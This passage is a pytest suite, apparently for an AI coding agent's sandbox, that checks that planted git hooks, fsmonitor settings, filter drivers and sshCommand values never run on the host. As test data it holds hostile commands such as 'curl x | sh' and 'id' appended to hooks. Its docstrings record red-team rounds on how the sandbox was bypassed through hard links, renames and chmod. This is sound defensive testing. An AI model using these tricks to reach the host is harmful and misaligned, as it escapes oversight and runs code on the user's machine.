"""A hostile repository cannot make git on the host run code the sandbox wrote.

Each test builds a repository the way an attacker (or an ordinary tool like husky) would, runs
the real CLI with the stand-in model making the writes, and then checks the host: the files git
would run are exactly as they were, and git on the host sees no planted repository.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.conftest import Engine
from tests.docker.cli_support import (
    RUN_TIMEOUT,
    SANDBOX_AGENT,
    ask,
    assert_user_error,
    cli_env,
    explain,
    model_args,
    run_cli,
    tool_exchanges,
)
from tests.fakes.model_server import Call, ModelServer, RecordedRequest, Reply

pytestmark = [pytest.mark.docker, pytest.mark.engines]


def git(*args: str, cwd: Path) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True)
    return done.stdout


def attempt(root: Path, server: ModelServer, *commands: str, writes: list[str] = ()) -> list[str]:
    """Let the model run `commands` and write `writes` (with --yes); the results it got."""
    calls = [Call("run_shell_command", {"command": c}) for c in commands]
    calls += [Call("write_file", {"path": p, "content": "#!/bin/sh\necho pwned\n"}) for p in writes]
    server.reply(tool_calls=calls)
    server.reply("done")
    done = ask(root, server, "ollama", "--yes")
    # Every write refused (the point of these tests) makes "done" an answer after only failed
    # changes: exit 34, which says so.
    assert done.returncode == 0 or (writes and done.returncode == 34
                                    and "no file was changed" in done.stderr), explain(done)
    return [m["content"] for m in server.last_chat.body["messages"] if m["role"] == "tool"]


def snapshot(path: Path) -> dict[str, bytes]:
    return {str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*"))
            if p.is_file() and not p.is_symlink()}


def test_a_git_symlink_to_a_directory_in_the_root_is_read_only(workdir: Path,
                                                               model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", "--separate-git-dir", str(root / "store"), str(root), cwd=workdir)
    (root / ".git").unlink()
    (root / ".git").symlink_to("store")
    before = snapshot(root / "store")
    results = attempt(root, model_server, "echo x > .git/hooks/pre-commit",
                      "echo x > store/hooks/pre-commit", "git config core.fsmonitor 'id >&2'",
                      writes=[".git/hooks/post-checkout", "store/hooks/post-checkout"])
    assert all("Read-only file system" in r or "read-only" in r for r in results[:3]), results
    assert snapshot(root / "store") == before


def test_deep_and_node_modules_repositories_are_read_only(workdir: Path,
                                                         model_server: ModelServer):
    root = workdir / "proj"
    deep = root / "a" / "b" / "c" / "d" / "e" / "f" / "g"
    vendored = root / "node_modules" / "left-pad"
    for repo in (deep, vendored):
        repo.mkdir(parents=True)
        git("init", "-q", str(repo), cwd=workdir)
    before = {repo: snapshot(repo / ".git") for repo in (deep, vendored)}
    results = attempt(root, model_server,
                      "echo x > a/b/c/d/e/f/g/.git/hooks/pre-commit",
                      "echo x > node_modules/left-pad/.git/hooks/pre-commit",
                      "git -C node_modules/left-pad config core.fsmonitor 'id >&2'")
    assert all("Read-only file system" in r for r in results), results
    assert {repo: snapshot(repo / ".git") for repo in before} == before


def test_a_gitdir_file_and_its_target_are_read_only(workdir: Path, model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", "--separate-git-dir", str(root / "meta"), str(root / "app"), cwd=workdir)
    pointer = (root / "app" / ".git").read_bytes()
    before = snapshot(root / "meta")
    results = attempt(root, model_server,
                      "echo 'gitdir: ../evil' > app/.git",
                      "echo x > meta/hooks/pre-commit",
                      writes=["app/.git", "meta/hooks/pre-commit"])
    assert all("Read-only file system" in r for r in results[:2]), results
    assert (root / "app" / ".git").read_bytes() == pointer
    assert snapshot(root / "meta") == before


def test_hooks_path_and_included_config_in_the_tree_are_read_only(workdir: Path,
                                                                  model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    (root / ".husky").mkdir()
    (root / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    (root / "shared.gitconfig").write_text("[user]\n\tname = dev\n")
    git("config", "core.hooksPath", ".husky", cwd=root)
    git("config", "include.path", "../shared.gitconfig", cwd=root)
    results = attempt(root, model_server,
                      "echo 'curl x | sh' >> .husky/pre-commit",
                      "printf '[core]\\n\\tfsmonitor = id\\n' >> shared.gitconfig",
                      writes=[".husky/pre-commit", "shared.gitconfig"])
    assert all("Read-only file system" in r for r in results[:2]), results
    assert (root / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
    assert (root / "shared.gitconfig").read_text() == "[user]\n\tname = dev\n"


# A repository ships the config the person is told to include; each spelling makes git read
# `tools/local.gitconfig` (or run hooks from `tools/git hooks`), whatever a simpler reader sees.
SHIPPED = {
    "a byte-order mark": b"\xef\xbb\xbf[include]\n\tpath = tools/local.gitconfig\n",
    "a tab escape": b"[include]\n\tpath = tools/local\\t.gitconfig\n",
    "a continued line": b"[include]\n\tpath = tools/lo\\\ncal.gitconfig\n",
    "a NUL in the subsection": b'[include "path\x00"]\n\tx = tools/local.gitconfig\n',
    "a tab inside the value": b"[core]\n\thooksPath = tools/git\thooks\n",
}
PLANT = ("mkdir -p tools && for f in local.gitconfig \"local$(printf '\\t').gitconfig\"; do "
         "printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' > \"tools/$f\"; done; "
         "for d in 'git hooks' \"git$(printf '\\t')hooks\"; do mkdir -p \"tools/$d\" && "
         "printf '#!/bin/sh\\ntouch {marker}\\n' > \"tools/$d/pre-commit\" && "
         "chmod +x \"tools/$d/pre-commit\"; done; ls -A tools")


@pytest.mark.parametrize("spelling", list(SHIPPED))
def test_a_shipped_config_git_includes_is_protected_however_it_is_spelled(
        workdir: Path, model_server: ModelServer, spelling: str):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    (root / ".gitconfig").write_bytes(SHIPPED[spelling])
    git("add", ".gitconfig", cwd=root)
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "init", cwd=root)
    git("config", "include.path", "../.gitconfig", cwd=root)  # as the README says
    marker = workdir / "PWNED"
    attempt(root, model_server, PLANT.format(marker=marker))
    git("status", "--short", cwd=root)  # runs core.fsmonitor, wherever git found it
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "x",
        cwd=root)  # runs the pre-commit hook
    assert not marker.exists(), f"host git ran what the sandbox planted ({spelling})"
    assert "fsmonitor" not in git("config", "--list", cwd=root)


def test_a_git_config_that_cannot_be_read_with_certainty_stops_a_bind_session(
        workdir: Path, model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    (root / "team.gitconfig").write_bytes(b"[include]\n\tpath = \"tools/local.gitconfig\n")
    git("config", "include.path", "../team.gitconfig", cwd=root)
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "echo x > a.txt"})])
    model_server.reply("done")
    done = ask(root, model_server, "ollama", "--yes")
    assert_user_error(done, 2, "team.gitconfig as config, but it cannot be read with certainty")
    assert "--workspace copy" in done.stderr
    assert not (root / "a.txt").exists()  # the sandbox never started


def test_a_hooks_path_that_does_not_exist_cannot_be_created(workdir: Path,
                                                            model_server: ModelServer,
                                                            engine: Engine):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    git("config", "core.hooksPath", "tools/githooks", cwd=root)
    results = attempt(root, model_server,
                      "mkdir -p tools/githooks && echo 'id' > tools/githooks/pre-commit",
                      writes=["tools/githooks/pre-commit"])
    # gVisor checks the empty mountpoint's mode (0555) before the read-only flag
    refused = "Permission denied" if engine.runtime == "runsc" else "Read-only file system"
    assert refused in results[0], results
    assert not (root / "tools").exists()  # the empty mountpoints are gone after the session


def test_a_monorepo_hooks_path_into_the_project_is_read_only(workdir: Path,
                                                             model_server: ModelServer):
    mono = workdir / "mono"
    root = mono / "services" / "api"
    (root / "hooks").mkdir(parents=True)
    (root / "hooks" / "pre-push").write_text("#!/bin/sh\nmake check\n")
    git("init", "-q", str(mono), cwd=workdir)
    git("config", "core.hooksPath", "services/api/hooks", cwd=mono)
    results = attempt(root, model_server, "echo 'curl x | sh' >> hooks/pre-push")
    assert "Read-only file system" in results[0], results
    assert (root / "hooks" / "pre-push").read_text() == "#!/bin/sh\nmake check\n"


def test_ordinary_work_still_happens(workdir: Path, model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    results = attempt(root, model_server, "echo ok > made.txt && git status --short",
                      writes=["src/new.py"])
    assert "made.txt" in results[0] and results[1].startswith("wrote")
    assert (root / "made.txt").read_text() == "ok\n" and (root / "src" / "new.py").is_file()


def test_renaming_a_directory_above_a_protected_path_does_not_unprotect_it(
        workdir: Path, model_server: ModelServer):
    root = workdir / "proj"
    (root / "tools" / "hooks").mkdir(parents=True)
    (root / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake check\n")
    (root / "config" / "git").mkdir(parents=True)
    (root / "config" / "git" / "team.cfg").write_text("[user]\n\tname = dev\n")
    git("init", "-q", str(root), cwd=workdir)
    git("config", "core.hooksPath", "tools/hooks", cwd=root)
    git("config", "include.path", "../config/git/team.cfg", cwd=root)
    results = attempt(root, model_server,
                      "mv tools tools.old && mkdir -p tools/hooks && echo id > tools/hooks/pre-commit",
                      "mv config config.old && mkdir -p config/git && "
                      "printf '[core]\\n\\tfsmonitor = id\\n' > config/git/team.cfg")
    assert all("was put back" in r for r in results), results
    assert (root / "tools" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nmake check\n"
    assert (root / "config" / "git" / "team.cfg").read_text() == "[user]\n\tname = dev\n"
    assert not (root / "tools.old").exists() and not (root / "config.old").exists()
    assert "fsmonitor" not in git("config", "--list", "--show-origin", cwd=root)


def test_renaming_a_protected_directory_away_keeps_every_after_command_check(
        workdir: Path, model_server: ModelServer):
    """`mv tools tools.old` with nothing left in its place: the mount is put back, the command's
    output still reaches the model, and the other checks after the command still run (a
    repository made in the same command is still quarantined)."""
    root = workdir / "proj"
    (root / "tools" / "hooks").mkdir(parents=True)
    (root / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake check\n")
    git("init", "-q", str(root), cwd=workdir)
    git("config", "core.hooksPath", "tools/hooks", cwd=root)
    [result] = attempt(root, model_server,
                       "mv tools tools.old && git init -q sub && echo moved-ok")
    assert "moved-ok" in result and "internal error" not in result, result
    assert "was put back" in result, result
    assert "new git repositories inside the project are not allowed" in result, result
    assert (root / "tools" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nmake check\n"
    assert not (root / "sub" / ".git").exists()


def test_a_hooks_dir_that_links_into_the_project_is_read_only(workdir: Path,
                                                                model_server: ModelServer):
    """`ln -s ../githooks .git/hooks` (a team's shared hooks): git runs what is in githooks/,
    so the sandbox must not write there (fifth outside review)."""
    root = workdir / "proj"
    (root / "githooks").mkdir(parents=True)
    (root / "githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    git("init", "-q", str(root), cwd=workdir)
    shutil.rmtree(root / ".git" / "hooks")
    (root / ".git" / "hooks").symlink_to("../githooks")
    [result] = attempt(root, model_server, "echo 'touch PWNED' >> githooks/pre-commit; echo tried")
    assert "Read-only file system" in result, result
    assert (root / "githooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_a_hard_linked_hook_stops_a_bind_session(workdir: Path, model_server: ModelServer):
    """A hook hard-linked to a file in the tree: a read-only mount guards the name, not the
    file, so a write to the other name would change what git runs. Refused, with the fix."""
    root = workdir / "proj"
    (root / "scripts").mkdir(parents=True)
    (root / "scripts" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    git("init", "-q", str(root), cwd=workdir)
    os.link(root / "scripts" / "pre-commit", root / ".git" / "hooks" / "pre-commit")
    refused_through_another_name(root, model_server, "scripts/pre-commit")


def refused_through_another_name(root: Path, server: ModelServer, other: str) -> None:
    """A write to `other`, a second name of a file git on the host runs or reads, is never
    made: the session is refused at the start (exit 2), with the fix named."""
    before = (root / other).read_bytes()
    server.reply(tool_calls=[Call("run_shell_command", {
        "command": f"printf '[core]\\n\\tfsmonitor = id\\n' >> {other}"})])
    server.reply("done")
    done = ask(root, server, "ollama", "--yes")
    assert done.returncode == 2 and "Traceback" not in done.stderr, explain(done)
    assert "hard links" in done.stderr and "--workspace copy" in done.stderr, explain(done)
    assert (root / other).read_bytes() == before


def test_husky_hooks_and_the_scripts_they_run_are_read_only(workdir: Path,
                                                            model_server: ModelServer):
    root = workdir / "proj"
    (root / ".husky" / "_").mkdir(parents=True)
    (root / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\n. .husky/pre-commit\n")
    (root / ".husky" / "pre-commit").write_text("npm test\n")
    git("init", "-q", str(root), cwd=workdir)
    git("config", "core.hooksPath", ".husky/_", cwd=root)
    results = attempt(root, model_server, "echo 'curl x | sh' >> .husky/pre-commit",
                      "mv .husky .husky.old")
    assert "Read-only file system" in results[0], results
    assert "busy" in results[1].lower(), results
    assert (root / ".husky" / "pre-commit").read_text() == "npm test\n"


def test_review_never_runs_a_planted_repositorys_config(workdir: Path, model_server: ModelServer):
    """A sub-project of a monorepo holding what makes git take it for a repository (HEAD,
    objects/, refs/ copied from a real one) and a config whose clean filter runs a program:
    `review --diff-base` runs git on the host, and must never run that."""
    mono, seed = workdir / "mono", workdir / "seed"
    root = mono / "pkg"
    root.mkdir(parents=True)
    git("init", "-q", str(mono), cwd=workdir)
    git("init", "-q", str(seed), cwd=workdir)
    (seed / "a.txt").write_text("one\n")
    git("add", "a.txt", cwd=seed)
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x", cwd=seed)
    for part in ("HEAD", "objects", "refs"):
        subprocess.run(["cp", "-r", str(seed / ".git" / part), str(root)], check=True)
    marker = workdir / "PWNED"
    (root / "config").write_text(
        f"[core]\n\tbare = false\n\tworktree = .\n"
        f"[filter \"x\"]\n\tclean = sh -c 'touch {marker}; cat'\n")
    (root / ".gitattributes").write_text("* filter=x\n")
    (root / "a.txt").write_text("two\n")
    model_server.default = Reply("No findings.")
    done = run_cli("review", "--root", root, "--provider", "ollama", "--host", model_server.url,
                   "--diff-base", "HEAD")
    assert not marker.exists(), explain(done)
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("where", ["config", "included", "process", "name-with-equals"])
def test_review_never_runs_a_shipped_repositorys_filters(workdir: Path, model_server: ModelServer,
                                                         where: str):
    """A repository handed over with its own .git/config (an archive, another user's checkout)
    and a .gitattributes naming a filter: git runs a clean filter (or a long-running process
    filter) on each modified file whose index entry is stale, and review runs git on the host."""
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    (root / "a.txt").write_text("one\n")
    (root / ".gitattributes").write_text("*.txt filter=pwn\n")
    git("add", ".", cwd=root)
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x", cwd=root)
    marker = workdir / "PWNED"
    key = "process" if where == "process" else "clean"
    name = "a=b" if where == "name-with-equals" else "pwn"  # `-c filter.a=b.clean=` is no key
    if name != "pwn":
        (root / ".gitattributes").write_text(f"*.txt filter={name}\n")
    driver = f'[filter "{name}"]\n\t{key} = sh -c \'id > {marker}; cat\'\n\trequired = true\n'
    if where == "included":
        (workdir / "inc.cfg").write_text(driver)
        with (root / ".git" / "config").open("a") as config:
            config.write(f"[include]\n\tpath = {workdir / 'inc.cfg'}\n")
    else:
        with (root / ".git" / "config").open("a") as config:
            config.write(driver)
    (root / "a.txt").write_text("two\n")  # modified: its index entry is stale
    model_server.default = Reply("No findings.")

    done = run_cli("review", "--root", root, "--provider", "ollama", "--host", model_server.url,
                   "--diff-base", "HEAD", "--format", "json")

    assert not marker.exists(), explain(done)
    assert done.returncode == 0, explain(done)
    prompt = "".join(str(m.get("content")) for m in model_server.chat_requests[0].body["messages"])
    assert "+two" in prompt  # the diff itself still reached the model, unfiltered


def test_review_never_fetches_what_a_partial_clone_misses(workdir: Path,
                                                         model_server: ModelServer):
    """A repository that says it is a partial clone, its base blob missing: git fetches it
    from the promisor remote on demand, running the repository's core.sshCommand (the third
    outside review)."""
    root = workdir / "proj"
    root.mkdir()
    git("init", "-q", str(root), cwd=workdir)
    (root / "a.txt").write_text("hello\n")
    git("add", ".", cwd=root)
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x", cwd=root)
    blob = git("rev-parse", "HEAD:a.txt", cwd=root).strip()
    (root / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    marker = workdir / "PWNED"
    for key, value in [("core.repositoryformatversion", "1"),
                       ("extensions.partialClone", "origin"),
                       ("remote.origin.url", "ssh://example.invalid/x"),
                       ("remote.origin.promisor", "true"),
                       ("core.sshCommand", f"sh -c 'id > {marker}; exit 1'")]:
        git("config", key, value, cwd=root)
    (root / "a.txt").write_text("hello changed\n")

    done = run_cli("review", "--root", root, "--provider", "ollama", "--host", model_server.url,
                   "--diff-base", "HEAD")

    assert not marker.exists(), explain(done)
    assert done.returncode == 2 and "Traceback" not in done.stderr, explain(done)
    assert model_server.chat_requests == []  # one clear error, before the model is asked


def _private_repo(workdir: Path) -> tuple[Path, str]:
    """Another repository on the host (a private checkout) and its HEAD commit."""
    private = workdir / "private"
    private.mkdir()
    git("init", "-q", str(private), cwd=workdir)
    (private / "secret.txt").write_text("PRIVATE-KEY-MATERIAL\n")
    git("add", ".", cwd=private)
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x", cwd=private)
    return private, git("rev-parse", "HEAD", cwd=private).strip()


@pytest.mark.parametrize("how", ["gitdir-file", "commondir", "alternates", "alternates-chain",
                                 "objects-link"])
def test_review_never_reads_another_repositorys_history(workdir: Path, model_server: ModelServer,
                                                       how: str):
    """A project (an unpacked archive, an earlier bind-mode session) whose `.git` file,
    `commondir` or `alternates` names another repository on the host: `review --diff-base`
    must not diff against that repository's files and send them to the model."""
    private, commit = _private_repo(workdir)
    root = workdir / "proj"
    root.mkdir()
    (root / "a.txt").write_text("hello\n")
    if how == "gitdir-file":
        (root / ".git").write_text(f"gitdir: {private / '.git'}\n")
    else:
        git("init", "-q", str(root), cwd=workdir)
        if how == "commondir":
            (root / ".git" / "commondir").write_text(f"{private / '.git'}\n")
        elif how == "alternates":
            (root / ".git" / "objects" / "info" / "alternates").write_text(
                f"{private / '.git' / 'objects'}\n")
        elif how == "alternates-chain":  # through an object store inside the project
            hop = root / "vendor" / "objects"
            (hop / "info").mkdir(parents=True)
            (hop / "info" / "alternates").write_text(f"{private / '.git' / 'objects'}\n")
            (root / ".git" / "objects" / "info" / "alternates").write_text(
                "../../vendor/objects\n")
        else:
            shutil.rmtree(root / ".git" / "objects")
            (root / ".git" / "objects").symlink_to(private / ".git" / "objects")
        (root / ".git" / "refs" / "heads" / "main").write_text(commit + "\n")
        (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    model_server.default = Reply("No findings.")

    done = run_cli("review", "--root", root, "--provider", "ollama", "--host", model_server.url,
                   "--diff-base", commit)

    assert done.returncode == 2 and "Traceback" not in done.stderr, explain(done)
    assert "outside the project" in done.stderr, explain(done)
    assert model_server.chat_requests == []  # refused before the model is asked


@pytest.mark.parametrize("kind", ["worktree", "submodule"])
def test_review_still_works_in_a_linked_worktree_and_a_submodule(workdir: Path,
                                                                 model_server: ModelServer,
                                                                 kind: str):
    """What git itself makes keeps working: a `git worktree add` checkout and a submodule keep
    their git dir outside the work tree, and that git dir names the work tree back."""
    main, _ = _private_repo(workdir)
    if kind == "worktree":
        root = workdir / "wt"
        git("worktree", "add", "-q", str(root), cwd=main)
    else:
        sup = workdir / "super"
        git("init", "-q", str(sup), cwd=workdir)
        git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(main), "sub",
            cwd=sup)
        root = sup / "sub"
    assert (root / ".git").is_file()
    (root / "secret.txt").write_text("changed line\n")
    model_server.default = Reply("No findings.")

    done = run_cli("review", "--root", root, "--provider", "ollama", "--host", model_server.url,
                   "--diff-base", "HEAD", "--format", "json")

    assert done.returncode == 0, explain(done)
    prompt = "".join(str(m.get("content")) for m in model_server.chat_requests[0].body["messages"])
    assert "+changed line" in prompt


def test_a_root_without_git_ends_the_session_without_one(workdir: Path, model_server: ModelServer):
    """A monorepo sub-directory has no .git of its own: the agent must not leave one that git
    on the host would honour (hooks, fsmonitor) when the person next types `git status`."""
    root = workdir / "proj"
    root.mkdir()
    results = attempt(root, model_server,
                      "git init -q . && echo 'id' > .git/hooks/pre-commit && "
                      "chmod +x .git/hooks/pre-commit && git config core.fsmonitor id && echo made")
    assert "new git repositories inside the project are not allowed" in results[0], results
    assert not (root / ".git").exists()
    [moved] = [p for p in root.iterdir() if p.name.startswith(".git.quarantined-")]
    assert not (moved / "HEAD").exists()  # not a repository under its new name either


def test_a_repository_the_person_makes_during_a_session_is_read_only_at_once(
        workdir: Path, model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()

    def make_then_write(request: RecordedRequest) -> Reply:
        # The person runs `git init vendor/lib` while the model thinks (the sandbox is up).
        (root / "vendor" / "lib").mkdir(parents=True)
        git("init", "-q", str(root / "vendor" / "lib"), cwd=workdir)
        return Reply(tool_calls=[Call("run_shell_command", {
            "command": "echo 'id' > vendor/lib/.git/hooks/post-checkout"})])

    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "true"})])
    model_server.respond(make_then_write)
    model_server.reply("done")
    done = ask(root, model_server, "ollama", "--yes")
    assert done.returncode == 0, explain(done)
    results = [m["content"] for m in model_server.last_chat.body["messages"] if m["role"] == "tool"]
    assert "Read-only file system" in results[1], results
    assert not (root / "vendor" / "lib" / ".git" / "hooks" / "post-checkout").exists()
    assert "restarting the sandbox with it read-only" in done.stderr


def _hooks_repo(workdir: Path) -> Path:
    root = workdir / "proj"
    (root / "tools" / "git" / "hooks").mkdir(parents=True)
    (root / "tools" / "git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake check\n")
    git("init", "-q", str(root), cwd=workdir)
    git("config", "core.hooksPath", "tools/git/hooks", cwd=root)
    return root


def test_a_protected_path_a_command_keeps_from_being_put_back_ends_the_session(
        workdir: Path, model_server: ModelServer):
    """Red-team round 10: `chmod 555` on the directory that holds the moved one made the put
    back fail (the toolbox has the commands' uid); the only trace was a line for the model, and
    at the end a protected path that was gone was not noticed. Now the session ends at once,
    and the person is told the hooks are gone."""
    root = _hooks_repo(workdir)
    model_server.reply(tool_calls=[Call("run_shell_command", {
        "command": "mv tools/git tools/git_old && chmod 555 tools && echo moved"})])
    model_server.reply("done")
    done = ask(root, model_server, "ollama", "--yes")
    assert done.returncode != 0, explain(done)
    assert "could not be put back" in done.stderr and "the session ends" in done.stderr, \
        explain(done)
    assert "tools/git/hooks is protected (git on the host runs it) and is gone" in done.stderr
    (root / "tools").chmod(0o755)
    assert (root / "tools" / "git_old" / "hooks" / "pre-commit").read_text() == \
        "#!/bin/sh\nmake check\n"


def test_what_appears_where_a_protected_path_was_missing_is_moved_aside(
        workdir: Path, model_server: ModelServer):
    """Red-team round 10, second session: the hooks path is missing at the start, so the engine
    mounts an empty directory there; moving that aside and planting a pre-commit left a hook
    git on the host would run. What is there at the end is moved aside now."""
    root = _hooks_repo(workdir)
    shutil.rmtree(root / "tools" / "git")
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": (
        "mv tools/git tools/git_engine; mkdir -p tools/git/hooks && "
        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > tools/git/hooks/pre-commit && "
        "chmod +x tools/git/hooks/pre-commit && chmod 555 tools; echo planted")})])
    model_server.reply("done")
    done = ask(root, model_server, "ollama", "--yes")
    assert "tools/git/hooks is protected (git runs it) but was replaced" in done.stderr, \
        explain(done)
    (root / "tools").chmod(0o755)
    assert not (root / "tools" / "git" / "hooks").exists()
    assert list((root / "tools" / "git").glob("hooks.replaced-*/pre-commit"))


@pytest.mark.parametrize("which", ["config", "include", "gitfile", "commondir"])
def test_a_hard_linked_git_config_stops_a_bind_session(workdir: Path, model_server: ModelServer,
                                                     which: str):
    """Red-team round 11: `.git/config` (or a file it includes) hard-linked to a file in the
    tree: the sandbox appended `core.fsmonitor` through the other name and `git status` on the
    host ran it. Refused like a hard-linked hook; so is a `.git` file (`gitdir: ...`) with a
    second name, which rewritten would send git on the host to a planted repository."""
    root = workdir / "proj"
    (root / "docs").mkdir(parents=True)
    if which == "gitfile":
        git("init", "-q", f"--separate-git-dir={root / 'store'}", str(root), cwd=workdir)
        assert (root / ".git").read_text().startswith("gitdir: ")
        os.link(root / ".git", root / "docs" / "repo-config.txt")
        refused_through_another_name(root, model_server, "docs/repo-config.txt")
        return
    if which == "commondir":  # red-team round 12: a linked worktree's pointer to the config
        git("init", "-q", str(root / "main"), cwd=workdir)
        git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty",
            "-m", "x", cwd=root / "main")
        git("worktree", "add", "-q", "../wt", cwd=root / "main")
        os.link(root / "main" / ".git" / "worktrees" / "wt" / "commondir",
                root / "docs" / "repo-config.txt")
        refused_through_another_name(root, model_server, "docs/repo-config.txt")
        return
    git("init", "-q", str(root), cwd=workdir)
    if which == "config":
        os.link(root / ".git" / "config", root / "docs" / "repo-config.txt")
    else:
        (root / "tools").mkdir()
        (root / "tools" / "git.inc").write_text("[user]\n\tname = dev\n")
        git("config", "include.path", "../tools/git.inc", cwd=root)
        os.link(root / "tools" / "git.inc", root / "docs" / "repo-config.txt")
    refused_through_another_name(root, model_server, "docs/repo-config.txt")


@pytest.mark.engines("runc")
@pytest.mark.parametrize("workspace", ["bind", "copy"])
def test_the_persons_global_hooks_in_a_root_with_no_repository_stay_theirs(
        workdir: Path, model_server: ModelServer, workspace: str):
    """Red-team round 26: the person's global config was read only for the repositories in or
    above the root, so in one holding none (a dotfiles folder) the hooks path and include it
    names there were the sandbox's to write (bind), or `apply` wrote them (copy); git in any
    repository on the host then ran them."""
    root = workdir / "dotfiles"
    (root / "hooks").mkdir(parents=True)
    (root / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (root / "inc.cfg").write_text("[user]\n\tname = me\n")
    global_config = workdir / "global.gitconfig"
    global_config.write_text(f"[core]\n\thooksPath = {root}/hooks\n"
                             f"[include]\n\tpath = {root}/inc.cfg\n")
    env = {"GIT_CONFIG_GLOBAL": str(global_config)}
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": (
        "echo 'touch /tmp/hook-ran' >> hooks/pre-commit; echo hook=$?; "
        "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> inc.cfg; echo inc=$?")})])
    model_server.reply("done")
    done = ask(root, model_server, "ollama", "--yes", "--workspace", workspace, env=env)
    assert done.returncode == 0, explain(done)
    if workspace == "bind":
        [(_, _, output)] = tool_exchanges(model_server.last_chat)
        assert output.count("Read-only file system") == 2, output  # refused by the kernel
    else:
        applied = run_cli("apply", "--root", root, "--yes", env=env)
        assert "hooks/pre-commit" in applied.stdout + applied.stderr, explain(applied)
    assert (root / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert (root / "inc.cfg").read_text() == "[user]\n\tname = me\n"


def test_a_folder_holding_two_protected_paths_is_put_back_once(workdir: Path,
                                                              model_server: ModelServer):
    """Red-team round 11: with two protected paths in one moved folder the toolbox put the
    folder back for the first, then moved the real one aside as `*.replaced-*` for the second,
    failed and ended the session. It is put back once now."""
    root = workdir / "proj"
    (root / "tools" / "hooks").mkdir(parents=True)
    (root / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake check\n")
    (root / "tools" / "git.inc").write_text("[user]\n\tname = dev\n")
    git("init", "-q", str(root), cwd=workdir)
    git("config", "core.hooksPath", "tools/hooks", cwd=root)
    git("config", "include.path", "../tools/git.inc", cwd=root)
    [result] = attempt(root, model_server, "mv tools tools_old && echo moved")
    assert result.count("was put back") == 2 and "replaced" not in result, result
    assert (root / "tools" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nmake check\n"
    assert (root / "tools" / "git.inc").is_file() and not (root / "tools_old").exists()
    assert not list(root.glob("tools.replaced-*"))


def test_the_projects_own_settings_dir_is_not_the_sandboxs_to_write(workdir: Path,
                                                                   model_server: ModelServer):
    """`.sandbox-agent/` (project policy, skills) is where tracking does not look: a command
    must not plant a policy or a live repository there, missing or present."""
    for present in (False, True):
        root = workdir / f"proj-{present}"
        root.mkdir()
        git("init", "-q", str(root), cwd=workdir)
        if present:
            (root / ".sandbox-agent").mkdir()
            (root / ".sandbox-agent" / "policy.toml").write_text("# the person's\n")
        before = snapshot(root)
        results = attempt(root, model_server, "mkdir -p .sandbox-agent/skills; "
                          "echo '[[rules]]' > .sandbox-agent/policy.toml; "
                          "git init -q .sandbox-agent/r; echo $?")
        assert "Read-only file system" in results[0], results
        assert snapshot(root) == before  # nothing planted, the person's file as it was
        assert (root / ".sandbox-agent").exists() == present  # our mountpoint went again


def test_a_settings_dir_that_is_a_link_is_refused_before_a_bind_session(
        workdir: Path, model_server: ModelServer):
    root = workdir / "proj"
    root.mkdir()
    (root / "elsewhere").mkdir()
    (root / ".sandbox-agent").symlink_to("elsewhere")
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "echo x > /dev/null"})])
    done = ask(root, model_server, "ollama", "--yes", "--workspace", "bind")
    assert_user_error(done, 10, ".sandbox-agent is not a directory", "--workspace copy")
    assert list((root / "elsewhere").iterdir()) == []


def test_a_second_bind_session_on_the_root_fails_at_once_naming_the_first(
        workdir: Path, model_server: ModelServer):
    """Two bind sessions on one root would each check the tree while the other's sandbox
    writes it (red-team round 17): the second one ends before its sandbox exists."""
    root = workdir / "proj"
    root.mkdir()
    wait = "touch started; while [ ! -e release ]; do sleep 0.1; done; echo released"
    model_server.reply(tool_calls=[Call("run_shell_command", {"command": wait})])
